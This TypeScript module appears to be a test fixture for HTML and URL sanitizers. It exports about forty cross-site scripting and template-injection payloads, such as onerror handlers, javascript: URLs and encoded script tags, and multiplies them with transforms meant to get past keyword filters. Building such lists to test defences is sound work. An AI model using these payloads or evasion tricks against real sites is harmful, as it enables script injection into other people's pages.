/** Texts that would run, were they taken for markup, an attribute, a style or an address. */

const CODE = "top.ran=1";

/** Short ones, for most fields take forty letters. */
const SHORT: readonly string[] = [
  `<script>${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `"><svg onload=${CODE}>`,
  `javascript:${CODE}`,
  `'onfocus=${CODE} autofocus='`,
  `{{constructor.constructor('${CODE}')()}}`,
  `</title><script>${CODE}</script>`,
  `<svg/onload=${CODE}>`,
  `<body onload=${CODE}>`,
  `<iframe src=javascript:${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<input autofocus onfocus=${CODE}>`,
  `<video src=x onerror=${CODE}>`,
  `<a href=javascript:${CODE}>x</a>`,
  `<object data=javascript:${CODE}>`,
  `<base href=//127.1/>`,
  `<link rel=stylesheet href=//127.1/>`,
  `<meta http-equiv=refresh content=0>`,
  `<style>*{display:none}</style>`,
  `<math><mtext><img src onerror=${CODE}>`,
  `<!--><img src onerror=${CODE}>-->`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&#60;script&#62;${CODE}&#60;/script&#62;`,
  `%3Cscript%3E${CODE}%3C/script%3E`,
  String.raw`\u003cscript\u003e${CODE}\u003c/script\u003e`,
  `＜script＞${CODE}＜/script＞`,
  `\${${CODE}}`,
  `<%= ${CODE} %>`,
  `#{${CODE}}`,
  `expression(${CODE})`,
  `'};${CODE};//`,
  `";${CODE};//`,
  `</textarea><img src onerror=${CODE}>`,
  `</script><img src onerror=${CODE}>`,
  `]]><img src onerror=${CODE}>`,
  `<form action=//127.1><button>x</form>`,
  `<p style=background:url(//127.1)>x`,
  `data:text/html,<script>${CODE}</script>`,
  `vbscript:${CODE}`,
  `<marquee onstart=${CODE}>x`,
];

/** The same written otherwise, as filters that look for words are got around. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("TOP.RAN", "top.ran"),
  (text) => text.replaceAll("script", "scr\u0000ipt").replaceAll("on", "o\u00adn"),
  (text) => text.replaceAll(" ", "/").replaceAll("=", "&#61;"),
  (text) => `<<${text}`,
];

export const payloads: readonly string[] = DISGUISES.flatMap((disguise) => SHORT.map(disguise));
